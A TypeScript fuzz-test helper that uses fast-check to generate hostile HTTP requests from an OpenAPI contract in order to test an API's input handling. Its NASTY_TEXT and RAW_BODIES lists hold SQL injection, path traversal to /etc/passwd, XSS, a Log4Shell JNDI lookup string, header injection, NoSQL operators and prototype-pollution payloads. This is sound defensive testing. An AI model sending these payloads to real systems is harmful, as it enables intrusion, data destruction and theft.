import fs from 'node:fs';
import path from 'node:path';
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { parse } from 'yaml';
import { makeCitizenId } from '../../src/ids';

/** One request the hostile suite sends: a raw path and query, and a body in raw bytes. */
export interface HostileRequest {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Buffer;
  /** What the input is, for the failure report. */
  label: string;
}

interface Operation {
  parameters?: Array<{ name: string; in: string }>;
  requestBody?: { content: Record<string, { schema?: { $ref?: string } }> };
  responses: Record<string, unknown>;
}
type PathItem = Record<string, Operation> & { parameters?: Operation['parameters'] };

const contract = parse(fs.readFileSync(path.join(__dirname, '../../openapi.yaml'), 'utf8')) as { paths: Record<string, PathItem> };

function operationOf(route: string): { item: PathItem; op: Operation } {
  const [method, template] = route.split(' ') as [string, string];
  const item = contract.paths[template]!;
  return { item, op: item[method.toLowerCase()]! };
}

/** The statuses openapi.yaml documents for the route. */
export function documentedStatuses(route: string): Set<number> {
  return new Set(Object.keys(operationOf(route).op.responses).map(Number));
}

function queryNames(route: string): string[] {
  const { item, op } = operationOf(route);
  return [...(item.parameters ?? []), ...(op.parameters ?? [])].filter((p) => p.in === 'query').map((p) => p.name);
}

/** The top-level field names of the route's JSON request body, so generated bodies hit real fields. */
function bodyFields(route: string): string[] {
  const ref = operationOf(route).op.requestBody?.content['application/json']?.schema?.$ref;
  if (!ref) return [];
  const schema = JSON.parse(fs.readFileSync(path.join(__dirname, '../..', ref), 'utf8')) as { properties?: Record<string, unknown> };
  return Object.keys(schema.properties ?? {});
}

const HELD_ID = makeCitizenId({ provinceCode: '082', sex: 'female', birthYear: 1987, serial: 4521 });

/** Text an attacker tries first: NUL, lone surrogates, look-alikes, injections, paths, numeric edges. */
const NASTY_TEXT = [
  '',
  ' ',
  '\u0000',
  'Nguyễn\u0000Hằng',
  '\ud800',
  'Hằng\udfff',
  '\ud83d',
  '\u202eHằng',
  '\ufeff082187004521',
  'Ng\u200buyễn',
  'Nguye\u0302\u0303n Thị Thu Hằng',
  'Ｎｇｕｙễｎ Ｔｈị',
  'Nguуễn Thị Hằng',
  '０８２１８７００４５２１',
  '٠٨٢١٨٧٠٠٤٥٢١',
  "' OR '1'='1",
  "'; DROP TABLE subjects; --",
  '1; SELECT pg_sleep(5)',
  '$1',
  '%',
  '%s%s%n',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/v1/../portal',
  '<script>alert(1)</script>',
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'Infinity',
  '-Infinity',
  'NaN',
  '1e309',
  '-0',
  '0x10',
  '9'.repeat(40),
  '\r\nX-Injected: 1',
  'x'.repeat(3000),
  HELD_ID,
  '000.17.22.H56',
  '1.000894',
  '5f0c3c9e-8f1e-4c2a-9d3b-2a7e4b6c1d00',
];
const NUMERIC_EDGES = [0, -0, -1, 1, 0.5, 2 ** 31, 2 ** 53, 2 ** 63, -(2 ** 63), 1e308, -1e308, Number.MIN_VALUE, Number.MAX_SAFE_INTEGER + 2];
/** Path segments that are not text at all: bad %-encodings, an encoded surrogate, traversal. */
const RAW_SEGMENTS = ['%C0%AE', '%', '%zz', '%E0%A4%A', '%ED%A0%80', '%FF%FE', '%00', '..', '%2e%2e%2f%2e%2e', '%252e', 'a%2Fb'];

const utf16 = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
const control = fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c));
/** Hostile text up to `longest` characters; a URL keeps under Node's 16 KiB header limit (beyond it Node answers 431 itself). */
const textUpTo = (longest: number) =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...NASTY_TEXT) },
    { weight: 2, arbitrary: fc.string({ unit: utf16, maxLength: 24 }) },
    { weight: 1, arbitrary: fc.string({ unit: control, maxLength: 8 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 24 }) },
    { weight: 1, arbitrary: fc.integer({ min: 500, max: longest }).map((n) => 'Ð'.repeat(n)) },
  );
export const hostileText = textUpTo(70_000);
const urlText = textUpTo(600);

const hostileKey = fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', '$where', 'a.b', ''), hostileText);

/** A JSON value with hostile leaves, keys and shapes, `fields` mixed in so the schema's own fields get them. */
function hostileJson(fields: string[]): fc.Arbitrary<unknown> {
  const leaf = fc.oneof(hostileText, fc.constantFrom<unknown>(...NUMERIC_EDGES, true, false, null), fc.double(), fc.integer());
  const { value } = fc.letrec<{ value: unknown }>((tie) => ({
    value: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      leaf,
      fc.array(tie('value'), { maxLength: 4 }),
      fc.dictionary(fields.length ? fc.oneof(fc.constantFrom(...fields), hostileKey) : hostileKey, tie('value'), { maxKeys: 5 }),
    ),
  }));
  const schemaShaped = fields.length ? fc.record(Object.fromEntries(fields.map((f) => [f, fc.oneof(leaf, value)])), { requiredKeys: [] }) : value;
  return fc.oneof({ weight: 2, arbitrary: schemaShaped }, { weight: 1, arbitrary: value });
}

/** Raw bodies that JSON.stringify cannot produce. */
const RAW_BODIES: Array<[string, string]> = [
  ['malformed JSON', '{"name": "Phạm Văn Đồng",'],
  ['1e309', '{"limit": 1e309, "k": 1e309, "maxUses": -1e309}'],
  ['escaped NUL', '{"name": "Ph\\u0000m", "reason": "\\u0000"}'],
  ['escaped lone surrogate', '{"number": "12/2026/\\ud800", "name": "\\udfff"}'],
  ['__proto__ and constructor', '{"__proto__": {"admin": true}, "constructor": {"prototype": {"polluted": 1}}}'],
  ['duplicate keys', '{"name": "a", "name": {"$gt": ""}}'],
  ['bare string', '"Nguyễn Thị Thu Hằng"'],
  ['bare number', '123456789012'],
  ['null', 'null'],
  ['BOM then JSON', '\ufeff{}'],
  ['invalid UTF-8', '\u00ff'],
];

type BodyPlan =
  | { kind: 'json'; value: unknown }
  | { kind: 'deep'; n: number }
  | { kind: 'raw'; label: string; text: string }
  | { kind: 'encoded'; encoding: 'gzip' | 'br' | 'deflate'; corrupt: boolean; value: unknown }
  | { kind: 'media'; type: string };

function bodyPlan(fields: string[]): fc.Arbitrary<BodyPlan> {
  const json = hostileJson(fields);
  return fc.oneof(
    { weight: 6, arbitrary: json.map((value) => ({ kind: 'json' as const, value })) },
    { weight: 1, arbitrary: fc.integer({ min: 33, max: 20_000 }).map((n) => ({ kind: 'deep' as const, n })) },
    { weight: 2, arbitrary: fc.constantFrom(...RAW_BODIES).map(([label, text]) => ({ kind: 'raw' as const, label, text })) },
    { weight: 2, arbitrary: fc.record({ kind: fc.constant('encoded' as const), encoding: fc.constantFrom('gzip' as const, 'br' as const, 'deflate' as const), corrupt: fc.boolean(), value: json }) },
    { weight: 1, arbitrary: fc.constantFrom('text/plain', 'application/xml', 'multipart/form-data; boundary=x', 'application/json; charset=utf-16').map((type) => ({ kind: 'media' as const, type })) },
  );
}

function encodeText(text: string): string {
  try {
    return encodeURIComponent(text);
  } catch {
    // A lone surrogate has no UTF-8: send what a careless client would, its three CESU bytes.
    return [...text].map((c) => (/[\ud800-\udfff]/.test(c) ? '%ED%A0%80' : encodeURIComponent(c))).join('');
  }
}

function toBody(plan: BodyPlan): { body: Buffer; headers: Record<string, string>; label: string } {
  const json = { 'Content-Type': 'application/json' };
  switch (plan.kind) {
    case 'json':
      return { body: Buffer.from(JSON.stringify(plan.value) ?? 'null'), headers: json, label: 'generated JSON' };
    case 'deep':
      return { body: Buffer.from(`{"registry":{"snapshot":${'['.repeat(plan.n)}${']'.repeat(plan.n)}},"fields":${'{"a":'.repeat(40)}1${'}'.repeat(40)}}`), headers: json, label: `JSON ${plan.n} deep` };
    case 'raw':
      return { body: Buffer.from(plan.text, plan.label === 'invalid UTF-8' ? 'latin1' : 'utf8'), headers: json, label: plan.label };
    case 'encoded': {
      const text = Buffer.from(JSON.stringify(plan.value) ?? 'null');
      const packed = { br: brotliCompressSync, gzip: gzipSync, deflate: deflateSync }[plan.encoding](text);
      const body = plan.corrupt ? Buffer.concat([packed.subarray(0, Math.max(2, packed.length >> 1)), Buffer.from('garbage')]) : packed;
      return { body, headers: { ...json, 'Content-Encoding': plan.encoding }, label: `${plan.corrupt ? 'corrupt ' : ''}${plan.encoding} body` };
    }
    case 'media':
      return { body: Buffer.from('name=Ph%E1%BA%A1m'), headers: { 'Content-Type': plan.type }, label: `body as ${plan.type}` };
  }
}

/** Generated hostile requests for one route of the contract. */
export function hostileRequests(route: string, sample: (template: string) => string): fc.Arbitrary<HostileRequest> {
  const [method, template] = route.split(' ') as [string, string];
  const params = template.match(/\{\w+\}/g) ?? [];
  const names = queryNames(route);
  const segment = fc.oneof({ weight: 3, arbitrary: urlText.map(encodeText) }, { weight: 2, arbitrary: fc.constantFrom(...RAW_SEGMENTS) }, { weight: 1, arbitrary: fc.constant(undefined) });
  const urlKey = fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', '$where', 'a.b', ''), urlText);
  const queryPair = fc.tuple(fc.oneof(names.length ? fc.constantFrom(...names) : urlKey, urlKey), fc.oneof(urlText, fc.constantFrom('Infinity', '1e309', '-1', '0', '101', '2101', '%zz'))).map(([k, v]) =>
    v === '%zz' ? `${encodeText(k)}=%zz` : `${encodeText(k)}=${encodeText(v)}`,
  );
  const withBody = ['POST', 'PUT', 'PATCH'].includes(method);
  return fc
    .record({
      segments: fc.tuple(...params.map(() => segment)),
      query: fc.array(queryPair, { maxLength: 3 }),
      body: withBody ? bodyPlan(bodyFields(route)) : fc.constant(undefined),
    })
    .map(({ segments, query, body }) => {
      let i = 0;
      const sampled = sample(route).split('/');
      const built = template
        .split('/')
        .map((part, at) => (/^\{\w+\}$/.test(part) ? (segments[i++] ?? sampled[at]!) : part))
        .join('/');
      const url = `${built}${query.length ? `?${query.join('&')}` : ''}`;
      const encoded = body ? toBody(body) : undefined;
      return { method, path: url, headers: encoded?.headers ?? {}, body: encoded?.body, label: encoded?.label ?? 'no body' };
    });
}
